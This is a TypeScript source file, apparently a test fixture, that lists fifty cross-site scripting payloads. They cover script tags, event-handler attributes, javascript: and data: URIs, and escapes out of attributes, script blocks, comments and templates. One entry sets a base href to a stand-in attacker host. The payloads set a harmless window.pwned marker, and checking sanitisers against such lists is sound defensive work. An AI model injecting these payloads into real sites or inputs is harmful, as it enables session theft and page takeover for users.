// Fifty texts that run a script, load something or escape from their context wherever a text is treated as markup, a
// URL or a style. Each would set `pwned` on the window, or request /pwned.

const RUN = 'window.pwned=1'
const LOAD = '/dashboard/pwned'

/** HTML elements and attributes. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${LOAD}></SCRIPT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input onfocus=${RUN} autofocus>`,
  `<select autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<link rel=stylesheet href=${LOAD}>`,
  `<style>@import '${LOAD}'</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=${LOAD}">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<div style="background:url(${LOAD})">x</div>`,
  `<xss id=x tabindex=1 onfocus=${RUN}></xss>`,
]

/** Texts that escape from an attribute, an element, a string, a template or a URL. */
const ESCAPES = [
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  '`;window.pwned=1;`',
  `';${RUN};//`,
  `";${RUN};//`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}><!--`,
  `]]><script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `javascript:${RUN}`,
  `jAvAsCrIpT:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\u202e<img src=x onerror=${RUN}>`,
]

export const XSS_PAYLOADS: readonly string[] = [...MARKUP, ...ESCAPES]
